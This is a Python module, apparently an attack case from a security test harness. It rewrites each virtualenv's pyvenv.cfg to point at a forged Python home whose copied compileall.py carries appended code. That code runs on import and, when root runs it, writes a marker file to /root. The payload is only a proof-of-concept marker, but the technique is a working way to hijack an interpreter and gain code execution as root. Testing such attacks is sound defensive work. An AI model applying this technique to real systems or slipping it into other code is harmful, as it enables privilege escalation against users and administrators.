"""Has pyvenv.cfg name a standard library of the package's, which attacks whoever imports it."""

import os
import sys

from places import virtualenvs

LINE = "import os as _os\nif _os.getuid() == 0:\n    open('/root/PWNED', 'a').write(__name__)\n"
LATE = ("compileall.py", "os.py", "site.py")


def attack(report):
    for virtualenv in virtualenvs():
        version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
        home = os.path.join(virtualenv, "home")
        library = os.path.join(home, "lib", version)
        os.makedirs(library)
        os.makedirs(os.path.join(home, "bin"))
        original = os.path.dirname(os.__file__)
        for name in os.listdir(original):
            if name not in LATE and name != "__pycache__":
                os.symlink(os.path.join(original, name), os.path.join(library, name))
        for name in LATE:
            with open(os.path.join(original, name)) as file:
                text = file.read()
            # After the line that must stand first in a module.
            if name == "compileall.py":
                text += "\n" + LINE
            with open(os.path.join(library, name), "w") as file:
                file.write(text)
        os.symlink(os.path.realpath(sys.executable), os.path.join(home, "bin", version))
        settings = os.path.join(virtualenv, "pyvenv.cfg")
        with open(settings) as file:
            lines = file.read().splitlines()
        with open(settings, "w") as file:
            for line in lines:
                name = line.split("=")[0].strip()
                file.write(f"home = {home}/bin\n" if name == "home" else f"{line}\n")
        report["did"].append(settings)
